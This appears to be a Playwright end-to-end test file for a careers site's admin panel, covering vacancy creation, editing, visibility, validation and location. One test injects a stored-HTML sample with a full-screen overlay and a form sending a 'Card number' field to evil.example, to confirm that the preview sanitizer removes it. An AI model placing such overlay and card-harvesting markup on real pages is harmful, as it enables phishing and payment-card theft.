import type { Page } from '@playwright/test';
import { expect, gql, test } from './admin-support';
import { lockVacancies, quietShell } from './careers-vacancies';

const unique = (prefix: string) => `${prefix} ${Date.now().toString(36)}${Math.floor(Math.random() * 1e4)}`;

async function fillVacancy(page: Page, name: string, listed: boolean) {
  await page.getByLabel('Position').fill(name);
  await page.getByLabel('English level').fill('Upper-Intermediate');
  // Remote only: no office city. The country is the site's (SITE_COUNTRY) unless chosen.
  await page.getByLabel('Remote', { exact: true }).check();
  await page.getByLabel('Experience').fill('3+ years');
  const content = page.getByRole('textbox', { name: 'Description' });
  await content.click();
  await content.pressSequentially('You will build ');
  await page.getByRole('button', { name: 'Bold' }).click();
  await content.pressSequentially('real products');
  // A new vacancy starts unlisted; publishing is a deliberate tick.
  if (listed) await page.getByLabel('Listed on the careers page').check();
}

/** /careers as the server renders it right now (its list of vacancies included). */
async function careersHtml(page: Page): Promise<string> {
  return (await page.request.get('/careers')).text();
}

async function deleteByName(request: Parameters<typeof gql>[0], token: string, name: string) {
  const answer = await gql<{ vacancies: { id: string; name: string }[] }>(
    request,
    '{ vacancies(includeHidden: true) { id name } }',
    {},
    token,
  );
  for (const v of answer.data?.vacancies ?? [])
    if (v.name.startsWith(name))
      await gql(request, 'mutation ($id: ID!) { deleteVacancy(id: $id) }', { id: v.id }, token);
}

test.describe('as HR', () => {
  test.use({ role: 'HR' });

  test('a vacancy created, edited, hidden, shown and deleted here follows on /careers at once', async ({
    page,
    staff: _signedIn,
    request,
    ownerToken,
  }) => {
    const name = unique('E2E Platform Engineer');
    // The careers specs count the listed vacancies; this test changes them, so it holds their lock.
    const release = await lockVacancies();
    try {
      await quietShell(page);
      await page.goto('/admin-panel/vacancies');
      await expect(page.getByRole('heading', { level: 1, name: 'Vacancies' })).toBeVisible();
      await page.getByRole('link', { name: 'New vacancy' }).click();
      await expect(page).toHaveURL(/\/admin-panel\/vacancy$/);
      await fillVacancy(page, name, true);
      const preview = page.getByRole('region', { name: 'Preview', exact: true });
      await expect(preview.locator('strong')).toHaveText('real products');
      await expect(preview).toContainText(name);
      await page.getByRole('button', { name: 'Create vacancy' }).click();
      await expect(page.getByText('The vacancy has been created.')).toBeVisible();
      await expect(page).toHaveURL(/\/admin-panel\/vacancy\/[^/]+\/edit$/);

      // Listed at once on /careers, with its formatted description on its own page.
      await page.goto('/careers');
      const card = page.getByRole('button', { name: new RegExp(name) });
      await expect(card).toBeVisible();
      await card.click();
      await page
        .getByRole('region', { name: new RegExp(name) })
        .getByRole('link', { name: 'Read more' })
        .click();
      await expect(page.getByRole('heading', { level: 1 })).toContainText(name);
      await expect(page.getByText('Remote, from Ukraine')).toBeVisible();
      await expect(page.locator('strong', { hasText: 'real products' })).toBeVisible();
      await page.goBack();
      await page.goBack();
      await expect(page).toHaveURL(/\/admin-panel\/vacancy\/[^/]+\/edit$/);

      await page.getByLabel('Position').fill(`${name} II`);
      await page.getByRole('button', { name: 'Publish changes' }).click();
      await expect(page.getByText('The changes are published.')).toBeVisible();
      expect(await careersHtml(page)).toContain(`${name} II`);

      await page.getByRole('link', { name: 'Back to the vacancies' }).click();
      const table = page.getByRole('table', { name: 'Vacancies' });
      await page.getByLabel('Search vacancies').fill(name);
      await expect(page).toHaveURL(/\?q=/);
      await expect(table.getByRole('row')).toHaveCount(2);
      const row = table.getByRole('row', { name: new RegExp(name) });
      await expect(row).toContainText('Listed');

      await row.getByRole('button', { name: /^Hide/ }).click();
      await expect(row).toContainText('Hidden');
      expect(await careersHtml(page)).not.toContain(name);
      await row.getByRole('button', { name: /^Show/ }).click();
      await expect(row).toContainText('Listed');
      expect(await careersHtml(page)).toContain(name);

      await row.getByRole('button', { name: /^Delete/ }).click();
      await page
        .getByRole('dialog', { name: 'Delete this vacancy?' })
        .getByRole('button', { name: 'Delete' })
        .click();
      await expect(page.getByText(`“${name} II” was deleted.`)).toBeVisible();
      await expect(table).toHaveCount(0);
      await expect(page.getByText('No vacancies match these filters.')).toBeVisible();
      expect(await careersHtml(page)).not.toContain(name);
    } finally {
      await deleteByName(request, ownerToken, name);
      release();
    }
  });
});

test.describe('as COPYWRITER + HR', () => {
  test.use({ role: 'COPYWRITER + HR' });

  test('creates a hidden vacancy, checks the fields, and is warned only about unsaved changes', async ({
    page,
    staff: _signedIn,
    request,
    ownerToken,
  }) => {
    const name = unique('E2E Hidden Designer');
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    try {
      await page.goto('/admin-panel/vacancy');
      // A new vacancy starts unlisted: saving a half-written one does not publish it.
      await expect(page.getByLabel('Listed on the careers page')).not.toBeChecked();
      await page.getByRole('button', { name: 'Create vacancy' }).click();
      await expect(page.locator('#vacancy-name-error')).toHaveText('Please enter the position name.');
      await expect(page.getByLabel('Position')).toBeFocused();
      await expect(page.locator('#vacancy-content-error')).toHaveText('Please describe the vacancy.');

      await fillVacancy(page, name, false);
      await page.getByRole('link', { name: 'Back to the vacancies' }).click();
      await expect.poll(() => dialogs.length).toBe(1);
      expect(dialogs[0]).toContain('unsaved changes');
      await expect(page).toHaveURL(/\/admin-panel\/vacancy$/);

      await page.getByRole('button', { name: 'Create vacancy' }).click();
      await expect(page).toHaveURL(/\/admin-panel\/vacancy\/[^/]+\/edit$/);
      await page.getByRole('link', { name: 'Back to the vacancies' }).click();
      await expect(page.getByRole('heading', { level: 1, name: 'Vacancies' })).toBeVisible();
      expect(dialogs).toHaveLength(1);
      await expect(
        page.getByRole('table', { name: 'Vacancies' }).getByRole('row', { name: new RegExp(name) }),
        // Never listed yet: a draft (decision 047).
      ).toContainText('Draft');
      expect(await careersHtml(page)).not.toContain(name);
    } finally {
      await deleteByName(request, ownerToken, name);
    }
  });
});

test.describe('as HR, editing HTML stored before the allowlist', () => {
  test.use({ role: 'HR' });

  test('the preview shows the cleaned HTML the editor shows, never the stored overlay', async ({
    page,
    staff,
    request,
    ownerToken,
  }) => {
    const name = unique('E2E Legacy Vacancy');
    const created = await gql<{ createVacancy: { id: string } }>(
      request,
      'mutation ($input: VacancyCreateInput!) { createVacancy(input: $input) { id } }',
      {
        input: {
          name,
          languageLvl: 'B2',
          city: 'Remote',
          experience: '2+ years',
          content: '<p>Kept text</p>',
        },
      },
      staff.token,
    );
    const id = created.data!.createVacancy.id;
    // What an older version of the site may have stored: the API cleans on write now, so the
    // answer is rewritten on its way to the browser, as if the row held it.
    const legacy =
      '<p>Kept text</p><div style="position:fixed;inset:0;background:red;z-index:9999">Cover</div>' +
      '<form action="https://evil.example"><input name="card" placeholder="Card number"></form>';
    await page.route('**/graphql', async (route) => {
      const body = route.request().postDataJSON() as { operationName?: string } | null;
      const response = await route.fetch();
      if (body?.operationName !== 'AdminVacancy') return route.fulfill({ response });
      const json = (await response.json()) as { data: { vacancy: { content: string } } };
      json.data.vacancy.content = legacy;
      return route.fulfill({ response, json });
    });
    try {
      await page.goto(`/admin-panel/vacancy/${id}/edit`);
      const preview = page.getByRole('region', { name: 'Preview', exact: true });
      await expect(preview).toContainText('Kept text');
      // Nothing of the overlay or the form reaches the page: no styled element, no field, and the
      // middle of the screen is the editor's page, not a red cover.
      await expect(preview.locator('[style], form, input')).toHaveCount(0);
      await expect(page.getByPlaceholder('Card number')).toHaveCount(0);
      const atCentre = await page.evaluate(() => {
        const el = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
        return el ? getComputedStyle(el).position : 'none';
      });
      expect(atCentre).not.toBe('fixed');
      // The preview and the editor show the same text.
      const editor = page.getByRole('textbox', { name: 'Description' });
      await expect(editor).toContainText('Kept text');
      // The content is the preview's last block, after the title and the facts.
      const content = preview.locator(':scope > div').last();
      const words = (text: string) => text.split(/\s+/).filter(Boolean).join(' ');
      expect(words(await content.innerText())).toBe(words(await editor.innerText()));
    } finally {
      await gql(request, 'mutation ($id: ID!) { deleteVacancy(id: $id) }', { id }, ownerToken);
    }
  });
});

test.describe("as HR, a vacancy's location", () => {
  test.use({ role: 'HR' });

  test('is edited with the keyboard, its messages are said at the field, and its page and posting follow', async ({
    page,
    staff,
    request,
    ownerToken,
  }) => {
    const name = unique('E2E Location Role');
    // A listed vacancy changes what the careers specs count: hold their lock from its creation on.
    const release = await lockVacancies();
    const created = await gql<{ createVacancy: { id: string; slug: string } }>(
      request,
      'mutation ($input: VacancyCreateInput!) { createVacancy(input: $input) { id slug } }',
      {
        input: {
          name,
          languageLvl: 'B2',
          city: 'Kyiv',
          remote: false,
          experience: '2+ years',
          content: '<p>Where is this job?</p>',
          visibility: true,
        },
      },
      staff.token,
    );
    const { id, slug } = created.data!.createVacancy;
    try {
      await quietShell(page);
      await page.goto(`/admin-panel/vacancy/${id}/edit`);
      const country = page.getByLabel('Country');
      const city = page.getByLabel('City');
      const remote = page.getByLabel('Remote', { exact: true });
      // The site's country (SITE_COUNTRY) was given when it was made.
      await expect(country).toHaveValue('UA');
      await expect(page.getByRole('group', { name: 'Location' })).toBeVisible();

      // A remote-only job needs no city, an office job does: the message names the field and
      // focus goes there.
      await city.fill('');
      await page.getByRole('button', { name: 'Publish changes' }).click();
      await expect(page.locator('#vacancy-city-error')).toHaveText('Please enter the city, or tick Remote.');
      await expect(city).toBeFocused();
      await expect(city).toHaveAttribute('aria-invalid', 'true');

      // Keyboard only: a country from the list, the city, then Tab to the checkbox and Space.
      await country.focus();
      await country.selectOption('PL');
      await city.focus();
      await page.keyboard.type('Warsaw');
      await page.keyboard.press('Tab');
      await expect(remote).toBeFocused();
      await page.keyboard.press('Space');
      await expect(remote).toBeChecked();
      await expect(page.locator('#vacancy-city-error')).toHaveCount(0);
      await city.press('Enter'); // submits the form
      await expect(page.getByText('The changes are published.')).toBeVisible();

      // The public page says it, and its job posting is located there: an office and remote work.
      const html = await (await request.get(`/careers/${slug}`)).text();
      const posting = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)]
        .flatMap(([, text]) => (JSON.parse(text!) as { '@graph': Record<string, unknown>[] })['@graph'])
        .find((item) => item['@type'] === 'JobPosting');
      expect(posting).toMatchObject({
        jobLocation: { address: { addressLocality: 'Warsaw', addressCountry: 'PL' } },
        jobLocationType: 'TELECOMMUTE',
        applicantLocationRequirements: { name: 'PL' },
      });
      await page.goto(`/careers/${slug}`);
      await expect(page.getByText('Warsaw, Poland')).toBeVisible();
      await expect(page.getByText('Remote, from Poland')).toBeVisible();
    } finally {
      await gql(request, 'mutation ($id: ID!) { deleteVacancy(id: $id) }', { id }, ownerToken);
      release();
    }
  });
});
